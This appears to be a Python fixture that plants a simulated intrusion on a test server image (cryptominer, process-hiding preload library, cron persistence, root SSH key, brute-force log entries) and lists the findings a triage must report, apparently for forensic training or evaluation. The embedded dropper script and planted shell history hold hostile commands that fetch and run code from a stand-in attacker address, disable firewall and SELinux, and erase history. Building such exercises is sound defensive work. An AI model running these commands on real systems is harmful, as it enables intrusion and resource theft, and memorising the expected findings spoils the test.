"""An intrusion for a real server: what is planted, and what a triage must say about it."""

import os
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import NamedTuple

from images import contents, keys, logs, server_logs

ATTACKER = "203.0.113.77"
_MINER = "/usr/lib/.cache/kswapd0"
_CONFIGURATION = "/usr/lib/.cache/config.json"
_LIBRARY = "/usr/local/lib/libprocesshider.so"
_DROPPER = "/var/tmp/.update.sh"  # noqa: S108 - a path of the server, not of this host
_WALLET = "46tvf4y2zYT9vXuRghgd7m7iH4TDaLQCdBEBqyAdYywhh793vsA4e8n4Pyt9DPmgWk43zXDZyx5raZrLWuUrzD6X1XdxePi"
_WEB = 33
_POOL = "pool.example:3333"
_SCRIPT = f"""#!/bin/sh
setenforce 0
iptables -F
pkill -f kinsing
pkill -f kdevtmpfsi
pkill -f minerd
curl -fsSL http://{ATTACKER}/kswapd0 -o {_MINER}
chmod +x {_MINER}
nohup {_MINER} -o {_POOL} -u {_WALLET} --donate-level=1 >/dev/null 2>&1 &
echo '@reboot root {_DROPPER}' > /etc/cron.d/apt-compat2
history -c
"""
_SETTINGS = (
    f'{{"donate-level": 1, "pools": [{{"algo": "rx/0", "url": "{_POOL}", "user": "{_WALLET}", "keepalive": true}}]}}\n'
)


class Plant(NamedTuple):
    """A file of the intruder: path on the server, bytes, mode, the words that a finding about it must hold, owner."""

    path: str
    data: bytes
    mode: int = 0o644
    finding: str = ""
    owner: int = 0


def plants() -> list[Plant]:
    """Return what the intruder leaves on the disk."""
    history = f"curl -fsSL http://{ATTACKER}/x.sh | bash\nexit\n".encode()
    return [
        Plant(_MINER, contents.miner(1 << 20), 0o755, _MINER),
        Plant(_CONFIGURATION, _SETTINGS.encode(), finding=_CONFIGURATION),
        Plant(_LIBRARY, contents.process_hider("kswapd0"), 0o755, _LIBRARY),
        Plant("/etc/ld.so.preload", f"{_LIBRARY}\n".encode(), finding="/etc/ld.so.preload"),
        Plant(_DROPPER, _SCRIPT.encode(), 0o755, _DROPPER),
        Plant("/etc/cron.d/apt-compat2", f"@reboot root {_DROPPER}\n".encode(), finding=_DROPPER),
        Plant("/var/spool/cron/crontabs/www-data", f"*/7 * * * * {_MINER}\n".encode(), 0o600, _MINER, _WEB),
        Plant("/root/.ssh/authorized_keys", keys.public_key("ops@build7"), 0o600, "/root/.ssh/authorized_keys"),
        Plant("/var/www/.bash_history", history, 0o600, f"http://{ATTACKER}/x.sh", _WEB),
    ]


def write(mount: Path) -> dict[str, object]:
    """Plant the intrusion below ``mount``; return what must be found: the words of one finding each."""
    session = _append_brute_force(mount / "var/log/auth.log")
    for plant in plants():
        _write_file(mount, plant.path, plant.data, plant.mode, plant.owner)
        moment = (session + timedelta(minutes=1)).timestamp()
        os.utime(mount / plant.path.lstrip("/"), (moment, moment))
    found = [{"contains": plant.finding, "planted": plant.path} for plant in plants()]
    return {"findings": [*found, {"rule": "brute-force-succeeded", "contains": ATTACKER}]}


def write_administrator(mount: Path) -> None:
    """Give the administrator a key and a history that an honest person has."""
    home = Path("/home") / server_logs.ADMINISTRATOR
    _write_file(mount, f"{home}/.ssh/authorized_keys", keys.public_key(server_logs.KEY), 0o600)
    commands = b"sudo apt update\nsudo apt full-upgrade\ncurl -I https://www.example.org/\nsystemctl status nginx\n"
    _write_file(mount, f"{home}/.bash_history", commands, 0o600)
    for path in (".ssh", ".ssh/authorized_keys", ".bash_history"):
        os.chown(mount / f"{home}/{path}".lstrip("/"), 1000, 1000)


def _write_file(mount: Path, path: str, data: bytes, mode: int, owner: int = 0) -> None:
    target = mount / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(data)
    target.chmod(mode)
    os.chown(target, owner, owner)


def _append_brute_force(log: Path) -> datetime:
    """Add 60 wrong passwords and a login of root in the half hour after the log's end; return when the login was."""
    end = datetime.fromtimestamp(log.stat().st_mtime, UTC) if log.exists() else datetime.now(UTC) - timedelta(hours=1)
    start = end.replace(microsecond=0, tzinfo=None)
    attempts = {"address": ATTACKER, "users": ["root", "admin"], "count": 60, "pid": 21000, "every": 5}
    login = {"user": "root", "address": ATTACKER, "pid": 21100, "lasts": 300}
    events = [{"at": start, "failures": attempts}, {"at": start + timedelta(minutes=20), "accepted": login}]
    with log.open("ab") as file:
        file.write(logs.auth_log(server_logs.HOST, events))
    modified = (end + timedelta(minutes=26)).timestamp()
    os.utime(log, (modified, modified))
    return start.replace(tzinfo=UTC) + timedelta(minutes=20)
